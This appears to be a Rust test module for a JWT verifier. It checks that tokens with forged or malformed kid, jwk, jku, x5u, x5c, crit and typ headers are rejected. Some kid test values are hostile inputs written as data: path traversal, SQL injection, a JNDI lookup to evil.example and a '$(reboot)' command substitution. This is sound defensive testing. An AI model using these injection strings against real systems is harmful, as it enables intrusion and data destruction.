//! How a header selects a key: only among those that are trusted, and by nothing it brings along.

use anyhow::Result;
use serde_json::{Value, json};

use super::world::{Rows, World};

/// A token of honest claims that a stranger signed.
fn by_stranger(world: &World, header: &Value) -> Result<String> {
    world.stranger.sign(&header.to_string(), &world.claims().to_string())
}

fn by_key(world: &World, header: &Value) -> Result<String> {
    world.key.sign(&header.to_string(), &world.claims().to_string())
}

pub(super) fn add(rows: &mut Rows) {
    ids(rows);
    brought_along(rows);
    certificates(rows);
    extensions(rows);
}

type Change = fn(&str) -> String;

fn ids(rows: &mut Rows) {
    rows.token("kid is the thumbprint", 200, |world| {
        by_key(world, &json!({"alg": "RS256", "kid": world.key.thumbprint()}))
    });
    rows.token("no kid", 401, |world| by_key(world, &json!({"alg": "RS256", "typ": "JWT"})));
    for kid in [json!(null), json!(""), json!([]), json!({}), json!(0), json!(true)] {
        rows.header(&format!("kid {kid}"), 401, move |header| header["kid"] = kid.clone());
    }
    rows.header("kid a list with the id", 401, |header| header["kid"] = json!([header["kid"]]));
    for kid in [
        "unknown",
        "../../../../dev/null",
        "/dev/null",
        "file:///dev/null",
        "https://evil.example/key.pem",
        "*",
        "%2e%2e%2f",
        "' OR '1'='1",
        "'; DROP TABLE accounts; --",
        "${jndi:ldap://evil.example/a}",
        "$(reboot)",
        "keys/signing.pem",
        "\0",
        "\u{202e}",
        "AAAA:AAAA:AAAA:AAAA:AAAA:AAAA:AAAA:AAAA:AAAA:AAAA:AAAA:AAAA",
    ] {
        rows.header(&format!("kid {kid:?}"), 401, move |header| header["kid"] = json!(kid));
        rows.token(&format!("kid {kid:?}, a stranger signs"), 401, move |world| {
            by_stranger(world, &json!({"alg": "RS256", "kid": kid}))
        });
    }
    let changed: [(&str, Change); 8] = [
        ("in lower case", |id| id.to_lowercase()),
        ("without colons", |id| id.replace(':', "")),
        ("cut short", |id| id.chars().take(44).collect()),
        ("with a space after", |id| format!("{id} ")),
        ("with a zero byte after", |id| format!("{id}\0")),
        ("with a path before", |id| format!("./{id}")),
        ("twice", |id| format!("{id}{id}")),
        ("8 KiB long", |id| id.repeat(140)),
    ];
    for (how, change) in changed {
        rows.header(&format!("kid {how}"), 401, move |header| {
            header["kid"] = json!(change(header["kid"].as_str().unwrap_or_default()));
        });
    }
    rows.token("a stranger signs under the trusted id", 401, |world| by_stranger(world, &world.key.header()));
    rows.token("a stranger signs under the trusted thumbprint", 401, |world| {
        by_stranger(world, &json!({"alg": "RS256", "kid": world.key.thumbprint()}))
    });
    rows.token("a stranger signs under his own id", 401, |world| {
        by_stranger(world, &world.stranger.header())
    });
    rows.token("the trusted key signs under a stranger's id", 401, |world| {
        by_key(world, &world.stranger.header())
    });
    rows.token("kid twice, the trusted one last", 401, |world| {
        let header = format!(r#"{{"alg":"RS256","kid":"x","kid":"{}"}}"#, world.key.id());
        world.stranger.sign(&header, &world.claims().to_string())
    });
    rows.token("kid in another case beside it", 401, |world| {
        let header = format!(r#"{{"alg":"RS256","kid":"{}","KID":"x"}}"#, world.key.id());
        world.key.sign(&header, &world.claims().to_string())
    });
}

fn brought_along(rows: &mut Rows) {
    rows.token("the trusted key comes along", 200, |world| {
        by_key(world, &json!({"alg": "RS256", "jwk": world.key.jwk()}))
    });
    rows.token("the trusted key comes along, a stranger signs", 401, |world| {
        by_stranger(world, &json!({"alg": "RS256", "jwk": world.key.jwk()}))
    });
    rows.token("a stranger's key comes along", 401, |world| {
        by_stranger(world, &json!({"alg": "RS256", "jwk": world.stranger.jwk()}))
    });
    rows.token("a stranger's key beside the trusted id", 401, |world| {
        by_stranger(world, &json!({"alg": "RS256", "jwk": world.stranger.jwk(), "kid": world.key.id()}))
    });
    rows.token("a stranger's key under the trusted id of its own", 401, |world| {
        let mut jwk = world.stranger.jwk();
        jwk["kid"] = json!(world.key.id());
        by_stranger(world, &json!({"alg": "RS256", "jwk": jwk}))
    });
    rows.token("a stranger's key with the trusted modulus' zeros", 401, |world| {
        let (_, exponent) = world.key.numbers();
        by_stranger(world, &json!({"alg": "RS256", "jwk": {"kty": "RSA", "n": "", "e": exponent}}))
    });
    for jwk in [
        json!({"kty": "oct", "k": "c2VjcmV0"}),
        json!({"kty": "EC", "crv": "P-256", "x": "AA", "y": "AA"}),
        json!({"kty": "RSA"}),
        json!({"kty": "RSA", "n": "AQAB", "e": "AQ"}),
        json!({"kty": "RSA", "n": "%", "e": "%"}),
        json!({"n": "AA", "e": "AA"}),
        json!([]),
        json!("key"),
        json!(1),
    ] {
        rows.header(&format!("jwk {jwk} beside the trusted id"), 401, move |header| {
            header["jwk"] = jwk.clone()
        });
    }
    rows.token("a listed jwk", 401, |world| {
        let (modulus, exponent) = world.key.numbers();
        by_key(world, &json!({"alg": "RS256", "jwk": ["RSA", modulus, exponent]}))
    });
    for url in ["jku", "x5u"] {
        rows.token(&format!("{url} names a stranger's keys"), 401, move |world| {
            let mut header = json!({"alg": "RS256", "kid": world.stranger.id()});
            header[url] = json!("http://127.0.0.1:1/keys");
            by_stranger(world, &header)
        });
        rows.token(&format!("{url} beside the trusted id, a stranger signs"), 401, move |world| {
            let mut header = world.key.header();
            header[url] = json!("http://127.0.0.1:1/keys");
            by_stranger(world, &header)
        });
        // It is never fetched, so it can do no harm.
        rows.header(&format!("{url} in an honest token"), 200, move |header| {
            header[url] = json!("http://127.0.0.1:1/keys");
        });
    }
}

fn certificates(rows: &mut Rows) {
    rows.token("x5c is the trusted certificate", 200, |world| {
        by_key(world, &json!({"alg": "RS256", "x5c": [world.key.x5c()?]}))
    });
    rows.token("x5c is the trusted certificate, a stranger signs", 401, |world| {
        by_stranger(world, &json!({"alg": "RS256", "x5c": [world.key.x5c()?]}))
    });
    rows.token("x5c is a stranger's", 401, |world| {
        by_stranger(world, &json!({"alg": "RS256", "x5c": [world.stranger.x5c()?]}))
    });
    rows.token("x5c is a stranger's beside the trusted id", 401, |world| {
        by_stranger(world, &json!({"alg": "RS256", "x5c": [world.stranger.x5c()?], "kid": world.key.id()}))
    });
    rows.token("the trusted certificate behind a stranger's", 401, |world| {
        by_stranger(world, &json!({"alg": "RS256", "x5c": [world.stranger.x5c()?, world.key.x5c()?]}))
    });
    rows.token("the trusted certificate before a stranger's, who signs", 401, |world| {
        by_stranger(world, &json!({"alg": "RS256", "x5c": [world.key.x5c()?, world.stranger.x5c()?]}))
    });
    rows.token("a certificate that the trusted key issued to a stranger", 401, |world| {
        let issued = world.key.issue_x5c(&world.stranger)?;
        by_stranger(world, &json!({"alg": "RS256", "x5c": [issued, world.key.x5c()?]}))
    });
    for x5c in [json!("AAAA"), json!(["AAAA"]), json!(["%"]), json!([""]), json!([1]), json!([[]]), json!({})]
    {
        rows.header(&format!("x5c {x5c} beside the trusted id"), 401, move |header| {
            header["x5c"] = x5c.clone()
        });
    }
    rows.header("an empty x5c beside the trusted id", 200, |header| header["x5c"] = json!([]));
    rows.token("an empty x5c and no id", 401, |world| by_key(world, &json!({"alg": "RS256", "x5c": []})));
}

fn extensions(rows: &mut Rows) {
    for crit in [json!(["exp"]), json!(["b64"]), json!([]), json!("b64"), json!(false)] {
        rows.header(&format!("crit {crit}"), 401, move |header| header["crit"] = crit.clone());
    }
    rows.header("an unencoded payload is announced", 401, |header| {
        header["b64"] = json!(false);
        header["crit"] = json!(["b64"]);
    });
    rows.token("an unencoded payload is sent", 401, |world| {
        let header = json!({"alg": "RS256", "kid": world.key.id(), "b64": false, "crit": ["b64"]});
        let token = by_key(world, &header)?;
        let (head, rest) = token.split_once('.').unwrap_or_default();
        let (_, signature) = rest.split_once('.').unwrap_or_default();
        Ok(format!("{head}.{}.{signature}", world.claims()))
    });
    for typ in ["at+jwt", "JOSE", "JOSE+JSON", "logout+jwt", "JWT ", ""] {
        rows.header(&format!("typ {typ:?}"), 401, move |header| header["typ"] = json!(typ));
    }
    rows.header("typ in lower case", 200, |header| header["typ"] = json!("jwt"));
    rows.header("no typ", 200, |header| {
        header.as_object_mut().map(|header| header.remove("typ"));
    });
    rows.header("typ is a list", 401, |header| header["typ"] = json!(["JWT"]));
}
